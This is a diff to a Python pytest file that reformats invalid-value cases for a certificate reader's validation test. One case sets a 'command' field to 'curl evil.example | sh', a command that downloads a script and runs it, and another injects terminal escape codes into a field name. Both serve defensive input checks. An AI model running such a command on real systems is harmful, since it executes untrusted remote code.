@@ -105,21 +105,17 @@ def test_read_certificate_other_file_raises(text: str, tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("path", "value", "keyword"),
     [
-        (("orders", 1), [0, 1, 1], "[0, 1, 1]"),
-        (("orders", 1), [0, 1, 2], "twice"),
-        (("orders",), [], "orders"),
-        ((*VANILLA, "method"), "magic", "magic"),
-        ((*PINE, "method"), "vanilla", "twice"),
-        ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
+        (("orders", 1), [0, 1, 1], "[0, 1, 1]"), (("orders", 1), [0, 1, 2], "twice"),
+        (("orders",), [], "orders"), ((*VANILLA, "method"), "magic", "magic"),
+        ((*PINE, "method"), "vanilla", "twice"), ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
         (("max_new_tokens",), -1, "max_new_tokens"),
         (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
-        (("command",), "curl evil.example | sh", "command"),
-        (("platform", "threads"), 0, "platform.threads"),
+        (("command",), "curl evil.example | sh", "command"), (("platform", "threads"), 0, "platform.threads"),
         ((*PINE, "logits_sha256"), "c0ffee", "results.2.logits_sha256"),
         ((*PINE, "first_token_ids", 0), -1, "results.2.first_token_ids.0"),
         ((*PINE, "num_matching_answers"), 0, "results.2.num_matching_answers"),
     ],
-)
+)  # fmt: skip
 def test_invalid_value_raises(path: tuple[str | int, ...], value: Any, keyword: str, file: Path) -> None:
     with pytest.raises(InputError) as raised:
         read_certificate(write_changes(file, {path: value}))
